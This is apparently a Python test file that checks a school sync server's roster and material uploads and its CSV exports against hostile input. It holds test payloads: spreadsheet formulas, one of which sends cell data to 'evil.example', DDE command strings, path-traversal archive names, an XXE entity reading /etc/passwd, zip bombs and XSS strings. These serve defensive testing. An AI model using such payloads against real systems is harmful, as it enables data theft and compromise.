"""Files that a teacher brings without knowing what is in them; what goes out to spreadsheets."""

import csv
import io
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from content_packs.limits import MIB
from sync_node.school.limits import (
    MATERIALS_RESERVE_BYTES,
    ROSTER_FILES_MAX,
    ROSTER_UNPACKED_BYTES_MAX,
    UPLOAD_PIECE_BYTES,
)
from tests.support.phones import Phone
from tests.sync_node.lan.attacked import EXERCISE, Attacked, attacked
from tests.sync_node.lan.quiz import right_form
from tests.sync_node.lan.teacher.classroom import GIB

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "＝1+1", "\t=1", "=1\r\n=2", " =1", 'x";=1', "|calc", "%0d=1",
)  # fmt: skip
MANIFEST = "propertyName,value\noneroster.version,1.1\n"
CLASSES = "sourcedId,status,title,grades,classType\nc1,active,{},4,homeroom\n"
USERS = "sourcedId,status,role,givenName,familyName\nu1,active,student,{},Li\n"
ENROLLMENTS = "classSourcedId,userSourcedId,role,status\nc1,u1,student,active\n"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("school")


@pytest.fixture(scope="module")
def here(folder: Path) -> Iterator[Attacked]:
    with attacked(folder) as found:
        yield found


@pytest.fixture
def teacher(here: Attacked) -> Phone:
    return here.phone_of_teacher()


def zipped(files: dict[str, str | bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def a_roster(title: str = "5 A", name: str = "Mei", **more: str | bytes) -> dict[str, str | bytes]:
    return {
        "manifest.csv": MANIFEST,
        "classes.csv": CLASSES.format(title),
        "users.csv": USERS.format(name),
        "enrollments.csv": ENROLLMENTS,
    } | {name.replace("__", "/"): data for name, data in more.items()}


def upload(teacher: Phone, data: bytes) -> int:
    return teacher.send("/teacher/rosters/upload", "roster.zip", data, {}).status


def test_formulas_in_names_reach_no_spreadsheet(here: Attacked, teacher: Phone) -> None:
    people = here.data.people
    made = people.add_class('=cmd|"/C calc"!A0', "4")
    for name in FORMULAS:
        people.add_learner(made.id, name)
    pasted = "\n".join(FORMULAS)
    teacher.post("/teacher/rosters/paste", {"name": "@SUM(9)", "names": pasted})
    teacher.post("/teacher/rosters/apply")
    for one in people.learners(made.id):
        phone = here.phone()
        here.sign_in(phone, one, "")
        phone.post(EXERCISE, {"_version": "1", "word": "=1+1", "action": "-2+3"})
    for one in people.classes():
        for kind in ("results", "answers"):
            answer = teacher.get(f"/teacher/classes/{one.id}/records/{kind}.csv")
            assert answer.status == 200
            assert answer.body.startswith(b"\xef\xbb\xbf")
            for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－"))
                    assert "\n" not in cell
            head = answer.headers["content-disposition"]
            assert "\n" not in head
            assert "|" not in head


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"classes.csv": ""},
        {"users.csv": "\x00" * 100_000},
        a_roster(users="x"),
        {"../../../../school.db": "x", **a_roster()},
        {"/etc/passwd.csv": "x", "..\\..\\users.csv": "x"},
        {f"{number}/users.csv": "x" for number in range(ROSTER_FILES_MAX + 1)},
        {"users.csv": "sourcedId," * 100_000},
        {"users.csv": '"' * 100_000},
        {"classes.csv": b"\xff\xfe\x00\x00" * 1_000, "users.csv": b"\x80", "enrollments.csv": b""},
        {
            "users.csv": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM '
            '"file:///etc/passwd">]><a>&b;</a>'
        },
    ],
    ids=range(11),
)
def test_a_zip_that_is_no_roster_is_refused(teacher: Phone, files: dict[str, str | bytes]) -> None:
    assert upload(teacher, zipped(files)) in {303, 400}
    assert teacher.get("/teacher").status == 200


def test_a_zip_that_unpacks_to_the_size_of_the_box_is_refused(teacher: Phone) -> None:
    bomb = b"0" * (ROSTER_UNPACKED_BYTES_MAX + MIB)
    assert upload(teacher, zipped(a_roster(**{"x__users.csv": bomb}))) == 400
    inner = zipped({"users.csv": bomb})
    assert upload(teacher, zipped({"users.csv": inner, "classes.csv": inner})) == 400


def test_a_zip_that_lies_about_itself_is_refused(teacher: Phone) -> None:
    sound = zipped(a_roster())
    assert upload(teacher, sound) == 303
    for broken in (
        sound[: len(sound) // 2],
        sound[:200] + bytes(200) + sound[400:],
        b"PK" + bytes(1_000),
        b"PK\x05\x06" + bytes(18),
        sound.replace(b"users.csv", b"user\x00.csv"),
        _encrypted(sound),
        sound[:-6] + struct.pack("<I", 2**32 - 1) + b"\0\0",
        b"",
        b"not a zip",
    ):
        assert upload(teacher, broken) == 400


def _encrypted(data: bytes) -> bytes:
    """Return a zip that says that each of its files needs a password."""
    made = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(mark, place + 1)
    return bytes(made)


def test_what_is_in_a_roster_is_text_on_the_page(teacher: Phone) -> None:
    script = '"<script>alert(1)</script>"'
    assert (
        upload(teacher, zipped(a_roster(title=script, name='"><img src=x onerror=alert(1)>')))
        == 303
    )
    page = teacher.get("/teacher/rosters/preview").text
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;" in page


@pytest.mark.parametrize(
    "name",
    ["../../school.db", "..\\..\\node.toml", "x\x00.mp4", "\r\nX: 1", "a" * 5_000, "", ".", "con"],
    ids=repr,
)
def test_the_name_of_a_file_is_a_title_at_most(
    here: Attacked, teacher: Phone, folder: Path, name: str
) -> None:
    before = sorted(path for path in folder.rglob("*") if "materials" not in path.parts)
    teacher.send("/teacher/materials", name.replace("\r\n", "%0d%0a"), PDF, {"title": ""})
    after = sorted(path for path in folder.rglob("*") if "materials" not in path.parts)
    assert [path.name for path in after if path not in before] == []
    for one in here.data.materials.all():
        assert "/" not in one.title.replace("…", "")


PDF = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script>", b"GIF89a/*<script>*/", b"%PDF-1.7 no end", b"",
        b"PK\x03\x04" + bytes(100), b"\x7fELF" + bytes(100), b"#!/bin/sh\n",
        b"\x00\x00\x00\x18ftypmp42" + bytes(2_000), b"\x1aE\xdf\xa3" + b"\xff" * 2_000,
        b"\x00\x00\x00\x18ftypmp42" + b"\xff\xff\xff\xffmoov" * 200,
    ],
    ids=lambda data: repr(data[:12]),
)  # fmt: skip
def test_what_is_no_film_and_no_pdf_is_not_taken(
    here: Attacked, teacher: Phone, data: bytes
) -> None:
    before = here.data.materials.all()
    assert teacher.send("/teacher/materials", "film.mp4", data, {"title": "x"}).status == 400
    assert here.data.materials.all() == before


def test_materials_never_fill_the_disk(here: Attacked, teacher: Phone) -> None:
    assert teacher.post("/teacher/materials/pieces", {"size": str(2 * GIB)}).status == 200
    for size in ("-1", "0", str(2 * GIB + 1), str(10**30), "nan", "", "1e3"):
        assert teacher.post("/teacher/materials/pieces", {"size": size}).status == 400
    uploads = here.data.materials._uploads
    before, uploads._disk_free = uploads._disk_free, lambda _: MATERIALS_RESERVE_BYTES + 10 * MIB
    assert teacher.post("/teacher/materials/pieces", {"size": str(11 * MIB)}).status == 400
    begun = teacher.post("/teacher/materials/pieces", {"size": str(9 * MIB)})
    place = begun.text.split('"upload":"')[1].split('"')[0]
    kind = {"Content-Type": "application/octet-stream"}
    too_much = bytes(UPLOAD_PIECE_BYTES + 1)
    assert teacher.post(f"/teacher/materials/pieces/{place}/0", too_much, **kind).status == 413
    uploads._disk_free = lambda _: MATERIALS_RESERVE_BYTES
    assert teacher.post(f"/teacher/materials/pieces/{place}/0", PDF, **kind).status == 400
    assert teacher.post("/teacher/materials/pieces/nobody-s/0", PDF, **kind).status == 404
    uploads._disk_free = before


def test_a_pupil_puts_nothing_on_the_disk(here: Attacked, folder: Path) -> None:
    phone = here.phone_of(here.learners[0])
    before = {path for path in folder.rglob("*") if path.is_file()}
    assert phone.send("/teacher/materials", "x.pdf", PDF, {"title": "x"}).status == 403
    assert phone.post("/teacher/materials/pieces", {"size": "9"}).status == 403
    for path in (EXERCISE, "/progress", "/sign-out", "/reading"):
        phone.send(path, "x.pdf", PDF, {"file": "x"})
    made = {path for path in folder.rglob("*") if path.is_file()} - before
    assert {path.name for path in made} <= {"opened.json", "school.db-wal", "school.db-shm"}
    assert phone.post(EXERCISE, right_form()).status in {200, 303}
